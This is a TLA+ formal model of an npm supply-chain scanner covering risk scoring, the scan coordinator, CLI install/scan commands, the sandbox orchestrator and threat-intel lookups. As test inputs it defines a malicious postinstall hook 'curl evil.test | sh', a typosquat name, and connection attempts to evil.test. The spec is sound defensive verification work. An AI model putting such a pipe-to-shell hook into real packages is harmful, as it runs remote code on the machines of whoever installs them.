---- MODULE Spec2Model ----
(***************************************************************************)
(* Verification model of the unsus supply-chain scanner: the risk scoring  *)
(* engine (calcScore / toLevel), the scan coordinator, the minified-file   *)
(* policy of the AST and entropy analyzers, the install command, the       *)
(* two-container sandbox orchestrator (runDynamic) and the translation of  *)
(* a sandbox run into findings (dynamicFindings).                          *)
(*                                                                         *)
(* Scores are carried in hundredths (0.15 -> 15, 2.5 -> 250, 10 -> 1000);  *)
(* the running total of calcScore is an exact fraction num/den.            *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
  \* --- risk scoring engine (calcScore, toLevel) ---
  sfindings,   \* the Finding list handed to calcScore
  sscore,      \* value returned by calcScore, in hundredths
  slevel,      \* value returned by toLevel(score)
  spc,         \* "input" before the call, "scored" after
  \* --- scan coordinator (scan) ---
  scanIn,      \* the scanned package and its environment: manifest file,
               \* what each analyzer does on it, opts.dynamic
  scpc,        \* position of scan: "start", "settled" (allSettled resolved),
               \* "enrich" (awaiting checkThreatIntel), "dynamic" (awaiting
               \* runDynamic), "returned", "rejected" (scan threw)
  settled,     \* the array Promise.allSettled resolves to
  scfindings,  \* findings
  sciocs,      \* uniqIOCs
  scresult,    \* the ScanResult returned, NoResult before
  \* --- minified-file policy (analyzeAST, analyzeEntropy) ---
  mfiles,      \* the file list both analyzers are given
  mast,        \* what analyzeAST returned: [done, findings]
  mentropy,    \* what analyzeEntropy returned: [done, findings]
  \* --- install command (CLI) ---
  ipkgs,       \* the <packages...> argument, each with what the world does to it
  iopts,       \* the command's options
  ipc,         \* "fetch" | "scan" | "installing" | "returned" | "exit" | "rejected"
  iidx,        \* position of the for loop in ipkgs
  iblocked,    \* the blocked list
  itmp,        \* indexes of packages whose temp directory exists
  ispawned,    \* argv of the package-manager process, <<>> if none was spawned
  iexit,       \* process exit code, once exited
  \* --- dynamic sandbox (runDynamic and the container entrypoints) ---
  dpkg,        \* the package under test: what each lifecycle hook does
  dimage,      \* "present" | "builds" | "buildFails": what ensureImage meets
  dfault,      \* "none" | "fetch" | "run": the Bun.spawn call that raises
  dpc,         \* "start" | "awaitFetch" | "awaitRun" | "returned" | "threw"
  dcont,       \* the two containers, by role
  dtimer,      \* per role: "unset" | "armed" | "fired" | "cleared"
  dtimedOut,   \* per role: fetchTimedOut / runTimedOut
  dvolume,     \* the shared workspace volume exists
  doutDir,     \* the host output directory: [exists, meta]
  dresult,     \* the DynamicResult returned
  \* --- translation of a DynamicResult into findings (dynamicFindings) ---
  xresult,     \* the DynamicResult given to dynamicFindings
  xfindings,   \* the Finding list it returns
  xpc,         \* "input" before the call, "done" after
  \* --- threat-intel enrichment (checkThreatIntel, getThreatDB) ---
  tnow,        \* Date.now(), in milliseconds
  tmem,        \* cachedDB, the module-level ThreatDB (NoDB for null)
  tdisk,       \* the parsed content of ~/.unsus/urlhaus.json (NoDB if absent)
  tfeed,       \* what the URLhaus endpoint answers at present
  tkey,        \* VIRUSTOTAL_API_KEY is set in the environment
  tinput,      \* the IOC list as checkThreatIntel was given it
  tiocs,       \* the same array while the call decorates its elements
  tidx,        \* position of `for (const ioc of iocs)`
  tfindings,   \* findings
  tvt,         \* vtChecks
  tdb,         \* db, what getThreatDB returned to this call
  tpc,         \* "called" | "fetching" | "loop" | "lookup" | "delay" | "returned"
  tlog,        \* the requests sent to VirusTotal by this call: [at, ioc]
  tscans,      \* number of checkThreatIntel calls so far
  tlast,       \* how the latest URLhaus fetch ended: "none" | "ok" | "failed"
  tfetches,    \* number of URLhaus fetches so far
  \* --- typosquat check of analyzeMetadata ---
  yname,       \* packageJson.name, "" when the manifest has none
  yfindings,   \* the typosquat findings pushed
  ypc,         \* "input" before the check, "done" after
  \* --- two overlapping runDynamic invocations on one host ---
  rnow,        \* Date.now(), in milliseconds
  rpc,         \* per invocation: "start" | "dir" | "volume" | "fetch" | "run" | "done"
  rname,       \* per invocation: outDir, volName, fetchName, runName
  rdirs,       \* the output directories that exist under /tmp
  rvols,       \* the docker volumes that exist
  rconts,      \* the containers that exist: <<name, invocation that started it>>
  \* --- scan command (CLI) ---
  cpkg,        \* the <package> argument, with what the world does to it
  clocal,      \* isLocal: the argument is a path on disk
  copts,       \* the command's options
  cpc,         \* "fetch" | "scan" | "returned" | "exit" | "rejected"
  ctmp,        \* the temp directory made by fetchPackage exists
  cexit        \* process exit code, once exited

scoreVars == <<sfindings, sscore, slevel, spc>>
scanVars == <<scanIn, scpc, settled, scfindings, sciocs, scresult>>
minVars == <<mfiles, mast, mentropy>>
instVars == <<ipkgs, iopts, ipc, iidx, iblocked, itmp, ispawned, iexit>>
dynVars == <<dpkg, dimage, dfault, dpc, dcont, dtimer, dtimedOut, dvolume,
             doutDir, dresult>>
xlatVars == <<xresult, xfindings, xpc>>
intelVars == <<tnow, tmem, tdisk, tfeed, tkey, tinput, tiocs, tidx, tfindings, tvt, tdb, tpc, tlog, tscans, tlast, tfetches>>
typoVars == <<yname, yfindings, ypc>>
runVars == <<rnow, rpc, rname, rdirs, rvols, rconts>>
cmdVars == <<cpkg, clocal, copts, cpc, ctmp, cexit>>

vars == <<sfindings, sscore, slevel, spc,
          scanIn, scpc, settled, scfindings, sciocs, scresult,
          mfiles, mast, mentropy,
          ipkgs, iopts, ipc, iidx, iblocked, itmp, ispawned, iexit,
          dpkg, dimage, dfault, dpc, dcont, dtimer, dtimedOut, dvolume,
          doutDir, dresult, xresult, xfindings, xpc,
          tnow, tmem, tdisk, tfeed, tkey, tinput, tiocs, tidx, tfindings, tvt, tdb, tpc, tlog, tscans, tlast, tfetches,
          yname, yfindings, ypc,
          rnow, rpc, rname, rdirs, rvols, rconts,
          cpkg, clocal, copts, cpc, ctmp, cexit>>

\* what the actions of one component leave alone
exceptScore == <<scanVars, minVars, instVars, dynVars, xlatVars, intelVars, typoVars, runVars, cmdVars>>
exceptScan == <<scoreVars, minVars, instVars, dynVars, xlatVars, intelVars, typoVars, runVars, cmdVars>>
exceptMin == <<scoreVars, scanVars, instVars, dynVars, xlatVars, intelVars, typoVars, runVars, cmdVars>>
exceptInst == <<scoreVars, scanVars, minVars, dynVars, xlatVars, intelVars, typoVars, runVars, cmdVars>>
exceptDyn == <<scoreVars, scanVars, minVars, instVars, xlatVars, intelVars, typoVars, runVars, cmdVars>>
exceptXlat == <<scoreVars, scanVars, minVars, instVars, dynVars, intelVars, typoVars, runVars, cmdVars>>
exceptIntel == <<scoreVars, scanVars, minVars, instVars, dynVars, xlatVars, typoVars, runVars, cmdVars>>
exceptTypo == <<scoreVars, scanVars, minVars, instVars, dynVars, xlatVars, intelVars, runVars, cmdVars>>
exceptRun == <<scoreVars, scanVars, minVars, instVars, dynVars, xlatVars, intelVars, typoVars, cmdVars>>
exceptCmd == <<scoreVars, scanVars, minVars, instVars, dynVars, xlatVars, intelVars, typoVars, runVars>>

----------------------------------------------------------------------------
\* Bounds

\* longest Finding list given to calcScore
MaxFindings == 5

\* most files in a package given to analyzeAST / analyzeEntropy
MaxFiles == 3

\* most packages named on one install command line
MaxPkgs == 2

\* most findings of one type in a list built to trigger compound rules
MaxCopies == 2

\* most connection attempts in the network log of one sandbox run
MaxAttempts == 3

\* most checkThreatIntel calls on one machine
MaxScans == 3

\* milliseconds that pass while two sandbox runs overlap
MaxMillis == 3

\* longest Finding list scored in double precision
MaxOrder == 4

----------------------------------------------------------------------------
\* Finding model

Severities == {"info", "warning", "danger", "critical"}

\* a Finding, reduced to the attributes scoring and deduplication read
Finding(t, s, f, l, c) ==
  [type |-> t, severity |-> s, file |-> f, line |-> l, code |-> c]

\* (type, severity) pairs the analyzers emit, used as calcScore inputs
ScoreKinds ==
  { Finding("install-script", "critical", "package.json", 0, ""),
    Finding("exec",           "critical", "index.js", 1, ""),
    Finding("network",        "warning",  "index.js", 2, ""),
    Finding("network",        "danger",   "index.js", 3, ""),
    Finding("obfuscation",    "danger",   "index.js", 4, ""),
    Finding("threat-intel",   "critical", "index.js", 5, ""),
    Finding("eval",           "warning",  "index.js", 6, ""),
    Finding("parse-error",    "info",     "index.js", 0, "") }

\* all sequences over S of length at most n
SeqUpTo(S, n) == UNION { [1..k -> S] : k \in 0..n }

----------------------------------------------------------------------------
\* Risk scoring engine

\* WEIGHTS with the same weight for every occurrence (no diminishing)
WEIGHTS_flat ==
  [ critical |-> <<250, 250, 250>>,
    danger   |-> <<150, 150>>,
    warning  |-> <<50, 50>> ]

\* WEIGHTS table, in hundredths
WEIGHTS ==
  [ critical |-> <<250, 150, 100>>,
    danger   |-> <<150, 100>>,
    warning  |-> <<50, 30>> ]

\* Delta without the fallback for occurrences past the end of the table
Delta_noTail(sev, n) ==
  IF sev = "info" THEN 10
  ELSE IF sev \notin DOMAIN WEIGHTS THEN 0
  ELSE IF n < Len(WEIGHTS[sev]) THEN WEIGHTS[sev][n + 1]
  ELSE 0

\* contribution of a finding of severity sev when n findings of that
\* severity came before it
Delta(sev, n) ==
  IF sev = "info" THEN 10
  ELSE IF sev \notin DOMAIN WEIGHTS THEN 0
  ELSE IF n < Len(WEIGHTS[sev]) THEN WEIGHTS[sev][n + 1]
  ELSE IF sev = "warning" THEN 15 ELSE 50

\* counts[sev] when the loop reaches findings[i]
SeenBefore(findings, i) ==
  Cardinality({ j \in 1..(i - 1) : findings[j].severity = findings[i].severity })

RECURSIVE AdditivePass(_, _)
\* the for-loop of calcScore over findings[1..k]
AdditivePass(findings, k) ==
  IF k = 0 THEN 0
  ELSE AdditivePass(findings, k - 1)
         + Delta(findings[k].severity, SeenBefore(findings, k))

TypesOf(findings) == { findings[i].type : i \in 1..Len(findings) }

\* CompoundRules with the threat-intel multiplier 0.5 in place of 1.5
CompoundRules_halved(types) ==
  LET has(t) == t \in types IN
  << <<has("install-script") /\ (has("network") \/ has("exec")), 13>>,
     <<(has("obfuscation") \/ has("base64-decode")) /\ has("exec"), 15>>,
     <<has("env-access-sensitive") /\ has("network"), 13>>,
     <<has("cryptominer") /\ has("network"), 15>>,
     <<has("geo-trigger") /\ has("fs-access"), 13>>,
     <<has("dynamic-network") /\ has("install-script"), 15>>,
     <<has("threat-intel"), 5>>,
     <<has("npm-audit"), 12>> >>

\* the compound-risk rules in source order: <<condition, multiplier * 10>>
CompoundRules(types) ==
  LET has(t) == t \in types IN
  << <<has("install-script") /\ (has("network") \/ has("exec")), 13>>,
     <<(has("obfuscation") \/ has("base64-decode")) /\ has("exec"), 15>>,
     <<has("env-access-sensitive") /\ has("network"), 13>>,
     <<has("cryptominer") /\ has("network"), 15>>,
     <<has("geo-trigger") /\ has("fs-access"), 13>>,
     <<has("dynamic-network") /\ has("install-script"), 15>>,
     <<has("threat-intel"), 15>>,
     <<has("npm-audit"), 12>> >>

RECURSIVE Gcd(_, _)
Gcd(a, b) == IF b = 0 THEN a ELSE Gcd(b, a % b)

\* a fraction in lowest terms
Reduce(n, d) == LET g == Gcd(n, d) IN [num |-> n \div g, den |-> d \div g]

\* Times with the bonus added instead: s += m - 1
Times_plus(s, m) == Reduce(s.num * 10 + (m - 10) * s.den, s.den * 10)

\* s *= m, for a multiplier given as m * 10; common factors are cancelled
\* before multiplying so that the result stays in lowest terms
Times(s, m) ==
  LET r  == Reduce(m, 10)
      g1 == Gcd(s.num, r.den)
      g2 == Gcd(r.num, s.den)
  IN  [num |-> (s.num \div g1) * (r.num \div g2),
       den |-> (s.den \div g2) * (r.den \div g1)]

RECURSIVE ApplyRules(_, _, _)
\* s *= m for each of the first k rules whose condition holds
ApplyRules(s, rules, k) ==
  IF k = 0 THEN s
  ELSE LET t == ApplyRules(s, rules, k - 1) IN
       IF rules[k][1] THEN Times(t, rules[k][2]) ELSE t

\* Math.round(x * 10) for the running total x, as a count of tenths.  The
\* source computes x in binary floating point: where the exact value of
\* x * 10 lies half-way between two integers the double lies on either side
\* of the tie (4.1 * 1.5 rounds to 6.1, 2.5 * 1.3 to 3.3), so both
\* neighbours are results; everywhere else the result is floor(x * 10 + 1/2).
RoundTenths(x) ==
  LET whole == x.num \div x.den
      part  == 10 * (x.num % x.den)
      lo  == 10 * whole + part \div x.den
      rem == part % x.den
  IN  IF 2 * rem = x.den THEN {lo, lo + 1}
      ELSE IF 2 * rem > x.den THEN {lo + 1}
      ELSE {lo}

\* ClampTen with the Math.min left out
ClampTen_none(tenths) == tenths

\* Math.min(v, 10) on a count of tenths
ClampTen(tenths) == IF tenths < 100 THEN tenths ELSE 100

\* the running total s of calcScore just before the return statement
RunningTotal(findings) ==
  ApplyRules(Reduce(AdditivePass(findings, Len(findings)), 100),
             CompoundRules(TypesOf(findings)), 8)

\* the values calcScore(findings) can return, in hundredths
calcScore(findings) ==
  { 10 * ClampTen(t) : t \in RoundTenths(RunningTotal(findings)) }

\* toLevel with strict comparisons (s < 1, s < 3, ...)
toLevel_strict(s) ==
  IF s < 100 THEN "safe"
  ELSE IF s < 300 THEN "low"
  ELSE IF s < 500 THEN "medium"
  ELSE IF s < 750 THEN "high"
  ELSE "critical"

\* toLevel on a score in hundredths
toLevel(s) ==
  IF s <= 100 THEN "safe"
  ELSE IF s <= 300 THEN "low"
  ELSE IF s <= 500 THEN "medium"
  ELSE IF s <= 750 THEN "high"
  ELSE "critical"

----------------------------------------------------------------------------
\* Scoring harness: a Finding list is chosen, then scored as scan does

ScoreInit ==
  /\ sfindings \in SeqUpTo(ScoreKinds, MaxFindings)
  /\ sscore = 0
  /\ slevel = "safe"
  /\ spc = "input"

ScoreIdle ==
  /\ sfindings = <<>>
  /\ sscore = 0
  /\ slevel = "safe"
  /\ spc = "idle"

\* const score = calcScore(findings); const level = toLevel(score);
Score ==
  /\ spc = "input"
  /\ sscore' \in calcScore(sfindings)
  /\ slevel' = toLevel(sscore')
  /\ spc' = "scored"
  /\ UNCHANGED sfindings
  /\ UNCHANGED exceptScore

\* One finding of each type a compound rule reads, with the severity its
\* analyzer gives it
RuleKinds ==
  << Finding("install-script",       "critical", "package.json", 0, ""),
     Finding("network",              "warning",  "index.js", 1, ""),
     Finding("exec",                 "critical", "index.js", 2, ""),
     Finding("obfuscation",          "danger",   "index.js", 3, ""),
     Finding("base64-decode",        "warning",  "index.js", 4, ""),
     Finding("env-access-sensitive", "danger",   "index.js", 5, ""),
     Finding("cryptominer",          "critical", "index.js", 6, ""),
     Finding("geo-trigger",          "danger",   "index.js", 7, ""),
     Finding("fs-access",            "warning",  "index.js", 8, ""),
     Finding("dynamic-network",      "danger",   "dynamic-analysis", 0, ""),
     Finding("threat-intel",         "critical", "index.js", 9, ""),
     Finding("npm-audit",            "danger",   "package.json", 0, "") >>

RECURSIVE Listing(_, _, _)
\* the finding list holding n findings of each type in T and of no other
\* type, built over the first k entries of RuleKinds
Listing(T, n, k) ==
  IF k = 0 THEN <<>>
  ELSE IF RuleKinds[k].type \in T
  THEN Listing(T, n, k - 1) \o [ i \in 1..n |-> RuleKinds[k] ]
  ELSE Listing(T, n, k - 1)

\* calcScore is given a list made to satisfy any combination of the rules
CompoundInit ==
  /\ sfindings \in
       { Listing(T, n, Len(RuleKinds)) :
           T \in SUBSET { RuleKinds[k].type : k \in 1..Len(RuleKinds) },
           n \in 1..MaxCopies }
  /\ sscore = 0
  /\ slevel = "safe"
  /\ spc = "input"

----------------------------------------------------------------------------
\* DynamicResult and its translation into findings (dynamicFindings)

\* one line "domain:port" of network.log as parseOutput splits it
Attempt(domain, port, raw) == [domain |-> domain, port |-> port, raw |-> raw]

\* a DynamicResult: networkAttempts, the cpu column of resourceSamples,
\* fsChanges, installExit and timedOut
DynamicResult(net, cpu, fs, exit, timedOut) ==
  [networkAttempts |-> net, cpuSamples |-> cpu, fsChanges |-> fs,
   installExit |-> exit, timedOut |-> timedOut]

DynFinding(type, severity, code) ==
  Finding(type, severity, "dynamic-analysis", 0, code)

RECURSIVE NetworkFindings(_, _)
\* the loop over r.networkAttempts with its `seen` set, first k attempts
NetworkFindings(net, k) ==
  IF k = 0 THEN <<>>
  ELSE LET rest == NetworkFindings(net, k - 1) IN
       IF \E j \in 1..(k - 1) : net[j].domain = net[k].domain
       THEN rest
       ELSE Append(rest, DynFinding("dynamic-network", "danger", net[k].raw))

RECURSIVE SumOf(_, _)
\* reduce((s, x) => s + x.cpu, 0) over the first k samples
SumOf(cpu, k) == IF k = 0 THEN 0 ELSE SumOf(cpu, k - 1) + cpu[k]

\* the resource-spike block: avg > 50 critical, avg > 25 warning, and only
\* with more than two samples
ResourceFindings(cpu) ==
  IF Len(cpu) > 2
  THEN IF SumOf(cpu, Len(cpu)) > 50 * Len(cpu)
       THEN <<DynFinding("dynamic-resource", "critical", "avg")>>
       ELSE IF SumOf(cpu, Len(cpu)) > 25 * Len(cpu)
       THEN <<DynFinding("dynamic-resource", "warning", "avg")>>
       ELSE <<>>
  ELSE <<>>

\* a created path: its name and whether it contains 'node_modules' or
\* 'package-lock'
Created(path, dep) == [path |-> path, dep |-> dep]

RECURSIVE Suspicious(_, _)
\* r.fsChanges.filter(...), first k entries
Suspicious(fs, k) ==
  IF k = 0 THEN <<>>
  ELSE IF fs[k].dep THEN Suspicious(fs, k - 1)
  ELSE Append(Suspicious(fs, k - 1), fs[k])

\* one dynamic-fs finding for each of suspicious.slice(0, 5)
FsFindings(fs) ==
  LET s == Suspicious(fs, Len(fs))
      n == IF Len(s) < 5 THEN Len(s) ELSE 5
  IN  [ i \in 1..n |-> DynFinding("dynamic-fs", "warning", s[i].path) ]

\* the timeout block
TimeoutFindings(timedOut) ==
  IF timedOut THEN <<DynFinding("dynamic-resource", "danger", "")>> ELSE <<>>

dynamicFindings(r) ==
  NetworkFindings(r.networkAttempts, Len(r.networkAttempts))
    \o ResourceFindings(r.cpuSamples)
    \o FsFindings(r.fsChanges)
    \o TimeoutFindings(r.timedOut)

\* connection targets a hook may try
Targets ==
  { Attempt("evil.test", "80", "evil.test:80"),
    Attempt("evil.test", "443", "evil.test:443"),
    Attempt("10.0.0.7", "80", "10.0.0.7:80") }

\* cpu columns: no samples, two busy samples, idle, elevated, busy
CpuColumns ==
  { <<>>, <<90, 90>>, <<5, 10, 5>>, <<30, 40, 20>>, <<95, 90, 100>> }

\* fs-changes.log contents
FsLogs ==
  { <<>>,
    <<Created("node_modules/x/index.js", TRUE), Created(".ssh/id", FALSE)>>,
    <<Created("a", FALSE), Created("b", FALSE), Created("c", FALSE),
      Created("d", FALSE), Created("e", FALSE), Created("f", FALSE)>> }

NoDynamicResult == DynamicResult(<<>>, <<>>, <<>>, 0, FALSE)

XlatInit ==
  /\ xresult \in { DynamicResult(net, cpu, fs, 0, t) :
                     net \in SeqUpTo(Targets, MaxAttempts),
                     cpu \in CpuColumns, fs \in FsLogs, t \in BOOLEAN }
  /\ xfindings = <<>>
  /\ xpc = "input"

XlatIdle ==
  /\ xresult = NoDynamicResult
  /\ xfindings = <<>>
  /\ xpc = "idle"

\* return { result, findings: dynamicFindings(result) }
Translate ==
  /\ xpc = "input"
  /\ xfindings' = dynamicFindings(xresult)
  /\ xpc' = "done"
  /\ UNCHANGED xresult
  /\ UNCHANGED exceptXlat

----------------------------------------------------------------------------
\* calcScore in IEEE 754 double precision: the same statements as above with
\* every + and * rounded as the JavaScript engine rounds them, which decides
\* on which side of a tie of RoundTenths a given list falls.
\*
\* A JavaScript number of calcScore is kept as the integer value * 2^60: all
\* the doubles met here lie between 2^-4 and 2^7 and are multiples of 2^-60.
\* The integer is a sequence of Limbs digits in base 2^13, lowest first.

LimbBits == 13
Base == 2 ^ LimbBits
Limbs == 12
Scale == 60

BigZero == [ i \in 1..Limbs |-> 0 ]

\* 2^d
Pow2(d) ==
  [ i \in 1..Limbs |-> IF i = (d \div LimbBits) + 1 THEN 2 ^ (d % LimbBits) ELSE 0 ]

RECURSIVE Normalize(_, _, _)
\* the digits of the number whose i-th column is cols[i], from column k on
\* with carry c into it
Normalize(cols, k, c) ==
  IF k > Limbs THEN <<>>
  ELSE LET t == cols[k] + c IN
       << t % Base >> \o Normalize(cols, k + 1, t \div Base)

BigAdd(a, b) == Normalize([ i \in 1..Limbs |-> a[i] + b[i] ], 1, 0)

\* a * b for a, b below 2^78 (six digits each)
BigMul(a, b) ==
  Normalize([ k \in 1..Limbs |->
                LET lo == IF k > 6 THEN k - 5 ELSE 1
                    hi == IF k > 6 THEN 6 ELSE k
                    col[i \in (lo - 1)..hi] ==
                      IF i < lo THEN 0 ELSE col[i - 1] + a[i] * b[k + 1 - i]
                IN  col[hi] ],
            1, 0)

RECURSIVE DivFrom(_, _, _, _)
\* long division of the digits a[1..i] with rem carried in from above:
\* <<quotient digits 1..i, remainder>>
DivFrom(a, den, i, rem) ==
  IF i = 0 THEN << <<>>, rem >>
  ELSE LET t == rem * Base + a[i]
           below == DivFrom(a, den, i - 1, t % den)
       IN  << Append(below[1], t \div den), below[2] >>

\* number of binary digits of a, 0 for zero
BitLength(a) ==
  IF a = BigZero THEN 0
  ELSE LET top == CHOOSE i \in 1..Limbs :
                    a[i] # 0 /\ \A j \in (i + 1)..Limbs : a[j] = 0
           n == CHOOSE n \in 1..LimbBits : 2 ^ (n - 1) <= a[top] /\ a[top] < 2 ^ n
       IN  LimbBits * (top - 1) + n

\* binary digit k of a, the lowest being digit 0
Bit(a, k) == (a[k \div LimbBits + 1] \div (2 ^ (k % LimbBits))) % 2

\* some binary digit of a below digit k is 1
AnyBelow(a, k) ==
  \/ \E i \in 1..(k \div LimbBits) : a[i] # 0
  \/ (a[k \div LimbBits + 1] % 2 ^ (k % LimbBits)) # 0

\* a with its binary digits below digit d cleared
ClearLow(a, d) ==
  Normalize([ i \in 1..Limbs |->
                IF i < d \div LimbBits + 1 THEN 0
                ELSE IF i = d \div LimbBits + 1 THEN a[i] - (a[i] % 2 ^ (d % LimbBits))
                ELSE a[i] ],
            1, 0)

\* a / 2^d, for a multiple of 2^d
ShiftRight(a, d) ==
  LET q == d \div LimbBits
      r == d % LimbBits
      at(i) == IF i <= Limbs THEN a[i] ELSE 0
  IN  Normalize([ i \in 1..Limbs |->
                    (at(i + q) \div (2 ^ r)) + (at(i + q + 1) % (2 ^ r)) * (2 ^ (LimbBits - r)) ],
                1, 0)

\* round to nearest, ties to even, at 53 significant binary digits; inexact
\* tells that the value lies above a by less than one unit of a
RoundSig(a, inexact) ==
  LET d == BitLength(a) - 53 IN
  IF d <= 0 THEN a
  ELSE LET guard == Bit(a, d - 1) = 1
           sticky == inexact \/ AnyBelow(a, d - 1)
           odd == Bit(a, d) = 1
       IN  IF guard /\ (sticky \/ odd)
           THEN BigAdd(ClearLow(a, d), Pow2(d))
           ELSE ClearLow(a, d)

\* the double a decimal literal num/den denotes
FromDecimal(num, den) ==
  LET scaled == Normalize([ i \in 1..Limbs |-> Pow2(Scale)[i] * num ], 1, 0)
      qr == DivFrom(scaled, den, Limbs, 0)
  IN  RoundSig(qr[1], qr[2] # 0)

\* x + y and x * y of two doubles
DAdd(x, y) == RoundSig(BigAdd(x, y), FALSE)

DMul(x, y) ==
  IF x = BigZero \/ y = BigZero THEN BigZero
  ELSE ShiftRight(RoundSig(BigMul(x, y), FALSE), Scale)

\* Math.round(x): floor(x + 1/2)
MathRound(x) ==
  LET n == ShiftRight(ClearLow(BigAdd(x, Pow2(Scale - 1)), Scale), Scale)
  IN  n[1] + Base * n[2]

RECURSIVE AdditivePassDouble(_, _)
\* the for-loop of calcScore over findings[1..k]
AdditivePassDouble(findings, k) ==
  IF k = 0 THEN BigZero
  ELSE LET s == AdditivePassDouble(findings, k - 1)
           delta == Delta(findings[k].severity, SeenBefore(findings, k))
       IN  IF Len(s) = Limbs /\ delta # 0 THEN DAdd(s, FromDecimal(delta, 100)) ELSE s

RECURSIVE ApplyRulesDouble(_, _, _)
\* the first k `if (...) s *= m` statements
ApplyRulesDouble(s, rules, k) ==
  IF k = 0 THEN s
  ELSE LET t == ApplyRulesDouble(s, rules, k - 1) IN
       IF Len(t) = Limbs /\ rules[k][1] THEN DMul(t, FromDecimal(rules[k][2], 10)) ELSE t

\* calcScore(findings), in hundredths
calcScoreDouble(findings) ==
  LET s == ApplyRulesDouble(AdditivePassDouble(findings, Len(findings)),
                            CompoundRules(TypesOf(findings)), 8)
  IN  IF Len(s) = Limbs THEN 10 * ClampTen(MathRound(DMul(s, FromDecimal(10, 1)))) ELSE 0

\* finding lists given to calcScore in this precision: one finding type per
\* severity, install-script and network holding the first compound rule
OrderKinds ==
  { Finding("install-script", "critical", "package.json", 0, ""),
    Finding("network",        "danger",   "index.js", 3, ""),
    Finding("eval",           "warning",  "index.js", 6, ""),
    Finding("parse-error",    "info",     "index.js", 0, "") }

OrderInit ==
  /\ sfindings \in SeqUpTo(OrderKinds, MaxOrder)
  /\ sscore = 0
  /\ slevel = "safe"
  /\ spc = "input"

\* const score = calcScore(findings); const level = toLevel(score);
ScoreDouble ==
  /\ spc = "input"
  /\ sscore' = calcScoreDouble(sfindings)
  /\ slevel' = toLevel(sscore')
  /\ spc' = "scored"
  /\ UNCHANGED sfindings
  /\ UNCHANGED exceptScore

----------------------------------------------------------------------------
\* Scan coordinator

HOOKS == <<"preinstall", "postinstall", "install", "preuninstall">>

HookNames == { HOOKS[k] : k \in 1..4 }

\* scripts[hook] of a hook the manifest does not declare
Undeclared == "<undefined>"

\* a manifest whose "name" is the JSON number 123 instead of a string
NumberName == "<number 123>"

\* an IOC: type, value and the file:line it was seen at
IOC(t, v, f, l) == [type |-> t, value |-> v, file |-> f, line |-> l]

\* a parsed manifest: kind is "object" or "null" (the JSON value null); name
\* its "name"; scripts maps each hook to its command, "" for a declared but
\* empty one; extra and iocs are what the base64 and typosquat checks of
\* analyzeMetadata yield on the manifest's values and name
Manifest(kind, name, scripts, extra, iocs) ==
  [kind |-> kind, name |-> name, scripts |-> scripts, extra |-> extra,
   iocs |-> iocs]

NoScripts == [h \in HookNames |-> Undeclared]

EmptyManifest == Manifest("object", "", NoScripts, <<>>, <<>>)

NullManifest == Manifest("null", "", NoScripts, <<>>, <<>>)

CurlPipeSh == "curl evil.test | sh"

\* a package.json on disk: state is "missing", "invalid" (not JSON) or
\* "parsed", and json what JSON.parse yields in the last case
File(state, json) == [state |-> state, json |-> json]

ManifestFiles ==
  { File("missing", EmptyManifest),
    File("invalid", EmptyManifest),
    File("parsed", NullManifest),
    File("parsed", Manifest("object", NumberName, NoScripts, <<>>, <<>>)),
    File("parsed", Manifest("object", "demo-pkg", NoScripts, <<>>, <<>>)),
    File("parsed", Manifest("object", "demo-pkg",
                            [NoScripts EXCEPT !["postinstall"] = CurlPipeSh],
                            <<>>, <<>>)),
    File("parsed", Manifest("object", "axois",
                            [NoScripts EXCEPT !["preinstall"] = "node pre.js",
                                              !["install"] = "",
                                              !["postinstall"] = CurlPipeSh],
                            <<Finding("metadata-base64", "danger",
                                      "package.json", 0, "aHR0cDovL2V2aWw="),
                              Finding("typosquat", "danger", "package.json", 0,
                                      "axois")>>,
                            <<IOC("url", "http://evil.test/x",
                                  "package.json config", 0)>>)) }

\* let packageJson = {}; try { packageJson = JSON.parse(readFileSync(..)) } catch {}
loadPkg(file) ==
  IF file.state = "parsed" THEN file.json ELSE EmptyManifest

\* analyzeMetadata raises a TypeError on json.scripts when json is null, and
\* in levenshtein(name, pop) when name is a number (dp[0] is undefined)
MetadataThrows(json) == json.kind = "null" \/ json.name = NumberName

RECURSIVE HookFindings(_, _)
\* the loop over the four hooks, first k hooks
HookFindings(json, k) ==
  IF k = 0 THEN <<>>
  ELSE LET hook == HOOKS[k]
           rest == HookFindings(json, k - 1)
       IN  IF json.scripts[hook] \notin {Undeclared, ""}
           THEN Append(rest, Finding("install-script", "critical",
                                     "package.json", 0,
                                     json.scripts[hook]))
           ELSE rest

\* analyzeMetadata on a manifest object: { findings, iocs }
analyzeMetadata(json) ==
  [findings |-> HookFindings(json, 4) \o json.extra, iocs |-> json.iocs]

EvilUrl == IOC("url", "http://evil.test/x", "index.js", 5)

\* what a call does: raises (for an async function: its promise rejects),
\* or returns value
Throws == [throws |-> TRUE, value |-> <<>>]
Returns(v) == [throws |-> FALSE, value |-> v]

\* analyzeNpmAudit on the package: its promise rejects or yields findings
AuditOutcomes ==
  { Throws, Returns(<<>>),
    Returns(<<Finding("npm-audit", "critical", "package.json", 0, "")>>) }

\* what analyzeAST, analyzeEntropy, extractIOCs and analyzeBinaries return
\* on the package's files
AstOutcomes ==
  { <<>>,
    <<Finding("eval", "critical", "index.js", 1, ""),
      Finding("vm-exec", "critical", "index.js", 2, "")>>,
    <<Finding("exec", "critical", "index.js", 1, ""),
      Finding("network", "danger", "index.js", 3, ""),
      Finding("network", "danger", "index.js", 3, "")>> }
EntropyOutcomes ==
  { <<>>, <<Finding("obfuscation", "warning", "index.js", 4, "")>> }
RegexOutcomes == { <<>>, <<EvilUrl>> }
BinaryOutcomes ==
  { <<>>, <<Finding("binary-suspicious", "danger", "a.bin", 0, "")>> }

\* checkThreatIntel: raises, or returns a threat-intel finding per IOC the
\* reputation database knows (here: knows all or none)
ThreatIntelOutcomes == { "throw", "none", "match" }

\* what a call that yields a DynamicResult does
ThrowsDyn == [throws |-> TRUE, value |-> NoDynamicResult]

\* runDynamic: raises, or returns the DynamicResult of the sandbox run: a
\* quiet run, a hook that connects out and hangs until its timeout, a hook
\* that spins the CPU until its timeout, a hook that keeps the CPU at a
\* third until its timeout
DynamicOutcomes ==
  { ThrowsDyn,
    Returns(NoDynamicResult),
    Returns(DynamicResult(<<Attempt("evil.test", "80", "evil.test:80")>>,
                          <<5, 10, 5>>, <<>>, 124, TRUE)),
    Returns(DynamicResult(<<>>, <<95, 90, 100>>, <<>>, 124, TRUE)),
    Returns(DynamicResult(<<>>, <<30, 40, 20>>, <<>>, 124, TRUE)) }

\* the dynamicAnalysis field of a ScanResult: undefined, or a DynamicResult
